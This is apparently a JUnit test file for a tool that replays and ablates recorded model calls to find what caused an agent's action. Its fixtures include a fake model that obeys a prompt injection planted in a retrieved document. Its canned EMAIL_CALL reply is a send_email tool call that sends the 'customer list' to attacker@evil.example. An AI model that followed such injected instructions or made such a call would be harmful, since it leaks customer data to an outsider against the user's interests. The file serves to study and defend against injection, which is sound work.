package dev.tracehound.replay.run;

import static dev.tracehound.replay.FakeModelServer.Reply;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tracehound.replay.FakeModelServer;
import dev.tracehound.replay.Fixtures;
import dev.tracehound.replay.client.ModelClient;
import dev.tracehound.replay.client.RetryPolicy;
import dev.tracehound.replay.endpoint.ApiKeys;
import dev.tracehound.replay.endpoint.EndpointKind;
import dev.tracehound.replay.endpoint.EndpointProfile;
import dev.tracehound.replay.plan.ContextEdit;
import dev.tracehound.replay.plan.PartSelector;
import dev.tracehound.replay.plan.ReplayPlan;
import dev.tracehound.replay.wire.Sampling;
import dev.tracehound.timeline.context.ModelContext;
import java.net.http.HttpClient;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class ReplayerTest {
    static final String EMAIL_CALL = """
            {"model":"gpt-4o-mini-2024-07-18","choices":[{"index":0,"message":{"role":"assistant","content":null,
             "tool_calls":[{"id":"call_x","type":"function","function":{"name":"send_email","arguments":"{\\"body\\": \\"customer list\\", \\"to\\": \\"attacker@evil.example\\"}"}}]},
             "finish_reason":"tool_calls"}],"usage":{"prompt_tokens":120,"completion_tokens":30}}
            """;
    static final String ANSWER = """
            {"model":"gpt-4o-mini-2024-07-18","choices":[{"index":0,"message":{"role":"assistant","content":"Refunds are possible within 30 days."},
             "finish_reason":"stop"}],"usage":{"prompt_tokens":100,"completion_tokens":10}}
            """;

    FakeModelServer server;

    @BeforeEach
    void start() throws Exception {
        server = new FakeModelServer();
        // A deterministic stand-in for a model that obeys the injection whenever it can see it.
        server.otherwise(body -> body.contains("email the customer list") ? Reply.json(EMAIL_CALL) : Reply.json(ANSWER));
    }

    @AfterEach
    void stop() {
        server.close();
    }

    ModelClient client(int concurrency) {
        return client(EndpointKind.OPENAI, concurrency);
    }

    ModelClient client(EndpointKind kind, int concurrency) {
        EndpointProfile p = new EndpointProfile("fake", kind, server.baseUrl(), "gpt-4o-mini", null, 5, concurrency, 0, 2);
        return new ModelClient(p, ApiKeys.of(Map.of()), HttpClient.newHttpClient(),
                new RetryPolicy(2, Duration.ofMillis(10), Duration.ofMillis(50), Duration.ofSeconds(5)), Clock.systemUTC());
    }

    @Test
    void removingTheRetrievedDocumentDropsTheCallFromTenOfTenToZero() {
        ReplayPlan plan = new ReplayPlan("ev-modelcall", 10, null, null, null,
                List.of(ContextEdit.remove(PartSelector.event("ev-doc"))), null);
        AblationReport report = new Replayer(client(4), null, null).ablate(Fixtures.injectedRagCall(), plan);

        assertEquals(10, report.baseline().rate().reproduced());
        assertEquals(0, report.edited().rate().reproduced());
        assertEquals(-1.0, report.difference(), 1e-9);
        assertEquals(20, server.received().size());
        assertTrue(report.describe().contains("difference: -100 percentage points (10/10 -> 0/10)"), report.describe());
        assertTrue(report.baseline().headline().startsWith("reproduced 10/10 (95% Wilson interval 0.72–1.00)"), report.baseline().headline());
        assertTrue(report.baseline().criterion().startsWith("the trial calls send_email with alike arguments"));
        assertEquals(List.of("remove the part from event ev-doc"), report.edited().edits());
        assertEquals(List.of("gpt-4o-mini-2024-07-18"), report.baseline().modelIds());
        assertEquals(1200, report.baseline().inputTokens());
        assertEquals("did not call send_email (no tool calls)", report.edited().results().getFirst().comparison().reason());
    }

    @Test
    void neutralisingTheSentenceIsEnoughToo() {
        ReplayPlan plan = new ReplayPlan("ev-modelcall", 3, null, null, null,
                List.of(ContextEdit.replaceText(PartSelector.event("ev-doc"), Fixtures.INJECTION, "")), null);
        RunSummary edited = new Replayer(client(2), null, null).run(Fixtures.injectedRagCall(), plan);
        assertEquals(0, edited.rate().reproduced());
        assertEquals(3, edited.completed());
        assertFalse(server.received().getFirst().body().contains("attacker"));
    }

    @Test
    void failedTrialsAreCountedApartAndConcurrencyIsRespected() {
        AtomicInteger inFlight = new AtomicInteger();
        AtomicInteger maxInFlight = new AtomicInteger();
        AtomicInteger n = new AtomicInteger();
        server.otherwise(body -> {
            int now = inFlight.incrementAndGet();
            maxInFlight.accumulateAndGet(now, Math::max);
            try {
                Thread.sleep(80);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
            inFlight.decrementAndGet();
            return n.incrementAndGet() % 3 == 0 ? Reply.json("{ not json") : Reply.json(EMAIL_CALL);
        });
        RunSummary s = new Replayer(client(2), null, null).run(Fixtures.injectedRagCall(), ReplayPlan.baseline("ev-modelcall", 6));
        assertEquals(2, s.failed());
        assertEquals(4, s.completed());
        assertEquals(4, s.rate().reproduced());
        assertTrue(maxInFlight.get() <= 2, "at most 2 in flight, saw " + maxInFlight.get());
        assertTrue(s.headline().endsWith("; 2 trials failed"), s.headline());
        TrialResult failed = s.results().stream().filter(r -> !r.ok()).findFirst().orElseThrow();
        assertTrue(failed.error().startsWith("malformed JSON"), failed.error());
    }

    @Test
    void tokenEstimateIsShownBeforeStarting() {
        ReplayPlan plan = new ReplayPlan("ev-modelcall", 4, new dev.tracehound.replay.wire.Sampling(null, null, null, 100), null, null, List.of(), null);
        Replayer.Prepared p = new Replayer(client(1), null, null).prepare(Fixtures.injectedRagCall(), plan);
        long expected = (p.request().body().length + 3) / 4;
        assertEquals(expected, p.estimate().inputPerTrial());
        assertTrue(p.estimate().describe().contains("up to 400 output tokens"), p.estimate().describe());
        assertEquals(0, server.received().size(), "preparing sends nothing");
    }

    @Test
    void theEstimateBoundsOutputByWhatTheRequestCarries() {
        ModelContext rag = Fixtures.injectedRagCall();
        ModelContext noLimit = new ModelContext(rag.callEventId(), rag.sessionId(), rag.provider(), rag.model(), rag.input(),
                rag.tools(), Map.of("temperature", 0.7), rag.output());
        Replayer.Prepared anthropic = new Replayer(client(EndpointKind.ANTHROPIC, 1), null, null).prepare(noLimit, ReplayPlan.baseline("ev-modelcall", 2));
        assertTrue(anthropic.estimate().describe().contains("up to 2048 output tokens"), "Anthropic's required default, 1024 a trial: "
                + anthropic.estimate().describe());
        Replayer.Prepared openAi = new Replayer(client(EndpointKind.OPENAI, 1), null, null).prepare(noLimit, ReplayPlan.baseline("ev-modelcall", 2));
        assertTrue(openAi.estimate().describe().contains("output unbounded"), "OpenAI sends no limit: " + openAi.estimate().describe());
        Replayer.Prepared recorded = new Replayer(client(EndpointKind.OPENAI, 1), null, null).prepare(rag, ReplayPlan.baseline("ev-modelcall", 2));
        assertTrue(recorded.estimate().describe().contains("up to 512 output tokens"), "the recorded 256 a trial: " + recorded.estimate().describe());
    }

    @Test
    void cancellationStopsPendingTrials() throws Exception {
        server.otherwise(body -> Reply.json(EMAIL_CALL).delayed(300));
        Replayer replayer = new Replayer(client(1), null, null);
        Thread canceller = Thread.ofVirtual().start(() -> {
            try {
                Thread.sleep(450);
            } catch (InterruptedException ignored) { }
            replayer.cancel();
        });
        RunSummary s = replayer.run(Fixtures.injectedRagCall(), ReplayPlan.baseline("ev-modelcall", 10));
        canceller.join();
        assertTrue(s.cancelled() >= 7, "most trials never ran: " + s.cancelled());
        assertTrue(server.received().size() <= 3, "requests sent: " + server.received().size());
    }

    @Test
    void anthropicEndpointsRefuseATemperatureAboveOneBeforeSendingAnything() {
        ReplayPlan hot = new ReplayPlan("ev-modelcall", 3, new Sampling(1.5, null, null, null), null, null, List.of(), null);
        var e = assertThrows(IllegalArgumentException.class,
                () -> new Replayer(client(EndpointKind.ANTHROPIC, 1), null, null).run(Fixtures.injectedRagCall(), hot));
        assertEquals("sampling.temperature must be between 0 and 1 for anthropic endpoints, not 1.5", e.getMessage());
        assertEquals(0, server.received().size(), "refused before any trial was sent");

        ReplayPlan atTheEdge = new ReplayPlan("ev-modelcall", 3, new Sampling(1.0, null, null, null), null, null, List.of(), null);
        new Replayer(client(EndpointKind.ANTHROPIC, 1), null, null).prepare(Fixtures.injectedRagCall(), atTheEdge);
        RunSummary openAi = new Replayer(client(EndpointKind.OPENAI, 1), null, null).run(Fixtures.injectedRagCall(), hot);
        assertEquals(3, openAi.completed(), "OpenAI-compatible endpoints keep 0 to 2");
        assertTrue(server.received().getFirst().body().contains("\"temperature\":1.5"), server.received().getFirst().body());
    }

    @Test
    void aRecordedTemperatureAnthropicRefusesIsCaughtUnlessThePlanSetsOne() {
        ModelContext rag = Fixtures.injectedRagCall();
        ModelContext recordedHot = new ModelContext(rag.callEventId(), rag.sessionId(), rag.provider(), rag.model(), rag.input(),
                rag.tools(), Map.of("temperature", 1.5), rag.output());
        var e = assertThrows(IllegalArgumentException.class, () -> new Replayer(client(EndpointKind.ANTHROPIC, 1), null, null)
                .run(recordedHot, ReplayPlan.baseline("ev-modelcall", 3)));
        assertTrue(e.getMessage().startsWith("the recorded call's temperature"), e.getMessage());
        assertTrue(e.getMessage().endsWith("must be between 0 and 1 for anthropic endpoints, not 1.5"), e.getMessage());
        assertEquals(0, server.received().size(), "refused before any trial was sent");

        ModelContext recordedHotWord = new ModelContext(rag.callEventId(), rag.sessionId(), rag.provider(), rag.model(), rag.input(),
                rag.tools(), Map.of("temperature", "hot"), rag.output());
        var notANumber = assertThrows(IllegalArgumentException.class, () -> new Replayer(client(EndpointKind.OPENAI, 1), null, null)
                .prepare(recordedHotWord, ReplayPlan.baseline("ev-modelcall", 1)));
        assertTrue(notANumber.getMessage().endsWith("must be a number, not \"hot\""), notANumber.getMessage());

        ReplayPlan cooler = new ReplayPlan("ev-modelcall", 1, new Sampling(0.5, null, null, null), null, null, List.of(), null);
        Replayer.Prepared p = new Replayer(client(EndpointKind.ANTHROPIC, 1), null, null).prepare(recordedHot, cooler);
        assertTrue(new String(p.request().body(), java.nio.charset.StandardCharsets.UTF_8).contains("\"temperature\":0.5"));
    }

    @Test
    void ablationWithoutEditsIsRefused() {
        assertThrows(IllegalArgumentException.class,
                () -> new Replayer(client(1), null, null).ablate(Fixtures.injectedRagCall(), ReplayPlan.baseline("x", 1)));
    }
}
